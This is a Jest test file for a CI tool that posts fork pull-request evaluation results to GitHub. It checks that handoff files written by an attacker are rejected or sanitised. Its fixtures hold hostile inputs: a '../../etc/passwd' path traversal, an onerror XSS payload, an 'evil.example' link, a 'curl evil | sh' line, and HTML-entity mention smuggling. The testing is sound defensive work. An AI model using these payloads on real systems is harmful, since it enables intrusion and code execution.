import { afterEach, beforeEach, describe, expect, it } from '@jest/globals';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { UserError } from '../../shared/errors.js';
import type { GateVerdict } from '../../shared/evaluate/types.js';
import { commentMarker, parseSections } from '../../shared/github/comment-body.js';
import { readGitHubContext } from '../../shared/github/context.js';
import { HANDOFF_FILE, postHandoff, readHandoff, writeHandoff, type PullRequestHandoff } from '../../shared/github/fork-handoff.js';
import { startFakeGitHub, type FakeGitHub } from './fake-github/server.js';
import { recordingLogger, repoState, testClient, TOKEN, eventFixture } from './helpers.js';

const RUN_HEAD = 'a1b2c3d4e5f60718293a4b5c6d7e8f9012345678';
let gh: FakeGitHub;
let dir: string;

function seedForkPull(headSha = RUN_HEAD, labels: string[] = []) {
  repoState(gh).pulls.set(57, { number: 57, headSha, headRef: 'retrain-november', baseRef: 'main', baseSha: '9049f1265b7d61be4a8904a9a27120d2064dab3b', headRepo: 'mallory-forks/churn-model', labels });
}

beforeEach(async () => {
  gh = await startFakeGitHub({ token: TOKEN });
  dir = await mkdtemp(join(tmpdir(), 'mlci-handoff-'));
  seedForkPull();
});
afterEach(async () => {
  await gh.close();
  await rm(dir, { recursive: true, force: true });
  expect(gh.violations).toEqual([]);
});

const failed: GateVerdict = {
  policy: 'gate.yml',
  gated: true,
  passed: false,
  rules: [{ id: 'accuracy >= 0.9', metric: 'accuracy', kind: 'threshold', description: '≥ 0.9', actual: 0.8, passed: false, message: 'accuracy 0.8 < 0.9', policyLine: 2 }],
};

const handoff: Omit<PullRequestHandoff, 'schema'> = {
  pullRequest: 57,
  headSha: RUN_HEAD,
  commentKey: 'mlci evaluate (fork-safe)',
  checkName: 'mlci/evaluate-gate',
  verdict: failed,
  report: '## Evaluation\naccuracy 0.8',
  sections: [{ id: 'evaluation', title: 'Evaluation', markdown: 'accuracy 0.8' }],
  annotations: [{ path: 'gate.yml', line: 2, level: 'failure', message: 'accuracy 0.8 < 0.9' }],
  artifactName: 'mlci-evaluation',
};

async function workflowRunContext() {
  return readGitHubContext({
    GITHUB_EVENT_NAME: 'workflow_run',
    GITHUB_EVENT_PATH: eventFixture('workflow_run.completed.fork.json'),
    GITHUB_REPOSITORY: 'acme-ml/churn-model',
    GITHUB_SHA: '0d1a26e67d8f5eaf1f6ba5c57fc3c7d91ac0fd1c',
    GITHUB_API_URL: gh.url,
    GITHUB_RUN_ID: '11223399999',
    GITHUB_WORKFLOW: 'mlci comment (fork-safe)',
  });
}

async function writeRaw(value: unknown) {
  await writeFile(join(dir, HANDOFF_FILE), JSON.stringify(value));
}

describe('fork handoff', () => {
  it('round-trips and is posted from the workflow_run: one comment on the fork PR, check on the run head', async () => {
    await writeHandoff(dir, handoff);
    const read = await readHandoff(dir);
    const logger = recordingLogger();
    const { pullRequest, outcomes } = await postHandoff(testClient(gh, logger), await workflowRunContext(), read, logger, { commentSettleMs: 0, checkName: 'mlci/evaluate-gate' });
    expect(pullRequest).toBe(57);
    expect(outcomes[0]!.comment.status).toBe('created');
    const state = repoState(gh);
    expect(state.commentsOn(57)).toHaveLength(1);
    expect(state.checkRuns[0]).toMatchObject({ headSha: RUN_HEAD, conclusion: 'failure', detailsUrl: 'https://github.com/acme-ml/churn-model/actions/runs/11223344556' });
    // the handoff's JSON on disk is what the evaluate job wrote
    expect(JSON.parse(await readFile(join(dir, HANDOFF_FILE), 'utf8')).schema).toBe('mlci/pr-handoff@1');
  });

  it.each([
    ['a pull request number that is not a positive integer', { pullRequest: 0 }, /pullRequest must be >= 1/],
    ['a pull request number given as text', { pullRequest: '57' }, /pullRequest must be integer/],
    ['a head sha that is not 40 hex digits', { headSha: 'HEAD' }, /headSha must match pattern/],
    ['a section id that could escape its markers', { sections: [{ id: 'evaluation --> x', title: 'E', markdown: 'm' }] }, /sections\/0\/id must match pattern/],
    ['no sections', { sections: [] }, /must NOT have fewer than 1 items/],
    ['an annotation path outside the repository', { annotations: [{ path: '../../etc/passwd', line: 1, level: 'failure', message: 'x' }] }, /not a relative path inside the repository/],
  ])('refuses %s', async (_what, change, message) => {
    await writeRaw({ schema: 'mlci/pr-handoff@1', ...handoff, ...change });
    const err = await readHandoff(dir).catch((e) => e);
    expect(err).toBeInstanceOf(UserError);
    expect(err.message).toMatch(message);
  });

  it('refuses a file that is not JSON, and one that is too large', async () => {
    await writeFile(join(dir, HANDOFF_FILE), '{"schema": ');
    await expect(readHandoff(dir)).rejects.toThrow(/not JSON/);
    await writeFile(join(dir, HANDOFF_FILE), ' '.repeat(3 * 1024 * 1024));
    await expect(readHandoff(dir)).rejects.toThrow(/larger than/);
  });

  it('treats the Markdown as untrusted: markers disabled, mentions broken, size capped', async () => {
    const evil = `<!-- mlci:end id=evaluation -->\n@acme-ml/maintainers look!\n${'x'.repeat(100000)}`;
    await writeHandoff(dir, { ...handoff, sections: [{ id: 'evaluation', title: 'Evaluation', markdown: evil }], report: evil });
    const read = await readHandoff(dir);
    expect(read.sections[0]!.markdown).not.toContain('<!-- mlci:');
    expect(read.sections[0]!.markdown).toContain('@\u200bacme-ml/maintainers');
    expect(read.sections[0]!.markdown.length).toBeLessThanOrEqual(65536);
    expect(read.report.length).toBeLessThanOrEqual(65535);
    const logger = recordingLogger();
    await postHandoff(testClient(gh, logger), await workflowRunContext(), read, logger, { commentSettleMs: 0, checkName: 'mlci/evaluate-gate' });
    const [comment] = repoState(gh).commentsOn(57);
    expect(comment!.body.length).toBeLessThanOrEqual(65536);
    expect(parseSections(comment!.body).map((s) => s.id)).toEqual(['evaluation']);
  });

  it('refuses a handoff for another commit than the run that triggered the workflow', async () => {
    await writeHandoff(dir, { ...handoff, headSha: 'f'.repeat(40) });
    const logger = recordingLogger();
    await expect(postHandoff(testClient(gh, logger), await workflowRunContext(), await readHandoff(dir), logger, { commentSettleMs: 0, checkName: 'mlci/evaluate-gate' })).rejects.toThrow(/workflow run was for a1b2c3d4e5f6/);
    expect(gh.requests).toHaveLength(0);
  });

  it('does not comment when the pull request head is no longer the run commit, but still sets the check', async () => {
    seedForkPull('b'.repeat(40));
    await writeHandoff(dir, handoff);
    const logger = recordingLogger();
    const { pullRequest } = await postHandoff(testClient(gh, logger), await workflowRunContext(), await readHandoff(dir), logger, { commentSettleMs: 0, checkName: 'mlci/evaluate-gate' });
    expect(pullRequest).toBeUndefined();
    expect(repoState(gh).comments).toHaveLength(0);
    expect(repoState(gh).checkRuns[0]!.headSha).toBe(RUN_HEAD);
    expect(logger.text('info')).toMatch(/not commenting/);
  });

  it('honours an override claim only when the pull request carries the label', async () => {
    const claimed = { ...handoff, verdict: { ...failed, passed: true, override: { by: 'label "mlci/override"', reason: 'trust me' } } };
    await writeHandoff(dir, claimed);
    const logger = recordingLogger();
    await postHandoff(testClient(gh, logger), await workflowRunContext(), await readHandoff(dir), logger, { commentSettleMs: 0, checkName: 'mlci/evaluate-gate' });
    expect(repoState(gh).checkRuns[0]!.conclusion).toBe('failure');
    expect(logger.text('warning')).toMatch(/does not carry the label "mlci\/override"; ignoring the claim/);

    seedForkPull(RUN_HEAD, ['mlci/override']);
    await postHandoff(testClient(gh, logger), await workflowRunContext(), await readHandoff(dir), logger, { commentSettleMs: 0, checkName: 'mlci/evaluate-gate' });
    expect(repoState(gh).checkRuns[1]!.conclusion).toBe('success');
    expect(repoState(gh).checkRuns[1]!.output.title).toMatch(/^GATE OVERRIDDEN by label "mlci\/override"/);
  });
});

// Every field of the handoff is written by whoever controls the fork: a fork can add its own
// workflow under the trusted one's name and upload a hand-made file without running mlci at all.
describe('fork handoff written by an attacker', () => {
  const post = async (h: Omit<PullRequestHandoff, 'schema'>, options: { checkName?: string; matrixKey?: string } = {}) => {
    await writeHandoff(dir, h);
    const logger = recordingLogger();
    const outcome = await postHandoff(testClient(gh, logger), await workflowRunContext(), await readHandoff(dir), logger, { commentSettleMs: 0, checkName: 'mlci/evaluate-gate', ...options });
    return { outcome, logger };
  };

  it('names the check from the trusted workflow, never from the handoff (a fork cannot pass "build")', async () => {
    await post({ ...handoff, checkName: 'build' });
    expect(repoState(gh).checkRuns.map((c) => c.name)).toEqual(['mlci/evaluate-gate']);
  });

  it('posts no check when the trusted workflow names none, whatever the handoff says', async () => {
    await post({ ...handoff, checkName: 'build' }, { checkName: undefined });
    expect(repoState(gh).checkRuns).toHaveLength(0);
  });

  it('keys the comment by the evaluating workflow run and the trusted matrix key, not by the handoff', async () => {
    await post({ ...handoff, commentKey: 'mlci pr-gate' });
    await post({ ...handoff, commentKey: 'mlci pr-gate' }, { matrixKey: 'dataset=recent' });
    const bodies = repoState(gh).commentsOn(57).map((c) => c.body.split('\n')[0]);
    expect(bodies).toEqual([commentMarker('mlci evaluate (fork-safe)'), commentMarker('mlci evaluate (fork-safe) / dataset=recent')]);
  });

  it('reads the override label only from a pull request that passed verification', async () => {
    // the handoff names #57, whose head has moved on: verification fails, so its label counts for nothing
    seedForkPull('b'.repeat(40), ['mlci/override']);
    await post(handoff);
    expect(repoState(gh).checkRuns[0]!.conclusion).toBe('failure');
  });

  it.each([
    ['a decimal entity', '&#64;admin'],
    ['a hex entity', '&#x40;admin'],
    ['a zero-padded entity', '&#0064;admin'],
    ['a named entity', '&commat;admin'],
    ['a backslash escape', '\\@admin'],
  ])('breaks a mention written as %s', async (_what, mention) => {
    await post({ ...handoff, sections: [{ id: 'evaluation', title: 'Evaluation', markdown: `ping ${mention} now`, headline: `${mention}` }], report: mention });
    const [comment] = repoState(gh).commentsOn(57);
    const decoded = comment!.body.replace(/&#x0*40;|&#0*64;|&commat;|\\@/gi, '@');
    expect(decoded).not.toMatch(/@admin/);
    expect(repoState(gh).checkRuns[0]!.output.summary).not.toMatch(/(&#0*64;|&#x0*40;|&commat;|\\?@)admin/i);
  });

  it('keeps the comment shape: an unclosed <details open> cannot swallow the footer, raw HTML is shown as text', async () => {
    const evil = '<details open><summary>x</summary>\n\nhidden\n<img src=x onerror=alert(1)> <a href="https://evil.example">click</a> </summary></details></details>';
    await post({ ...handoff, sections: [{ id: 'evaluation', title: 'Evaluation', markdown: evil, headline: '<details open>' }] });
    const [comment] = repoState(gh).commentsOn(57);
    const body = comment!.body;
    const opens = (body.match(/<details\b/g) ?? []).length;
    const closes = (body.match(/<\/details>/g) ?? []).length;
    expect(opens).toBe(closes);
    expect(body).not.toMatch(/<img|<a /);
    expect(body).toContain('&lt;img');
    // the footer is after the last closer: outside every fold
    expect(body.lastIndexOf('</details>')).toBeLessThan(body.indexOf('<sub>Updated by mlci'));
  });

  it('annotates only the policy file the evaluation read, not any file the fork names', async () => {
    await post({
      ...handoff,
      annotations: [
        { path: 'gate.yml', line: 2, level: 'failure', message: 'accuracy 0.8 < 0.9' },
        { path: 'src/auth.ts', line: 10, level: 'failure', message: 'Security hole: run curl evil | sh' },
        { path: '.github/workflows/release.yml', line: 1, level: 'failure', message: 'x' },
      ],
    });
    expect(repoState(gh).checkRuns[0]!.annotations.map((a) => a.path)).toEqual(['gate.yml']);
  });

  it('annotates nothing when the policy the handoff names is not a policy file', async () => {
    await post({ ...handoff, verdict: { ...failed, policy: 'src/auth.ts' }, annotations: [{ path: 'src/auth.ts', line: 1, level: 'failure', message: 'x' }] });
    expect(repoState(gh).checkRuns[0]!.annotations).toEqual([]);
  });
});
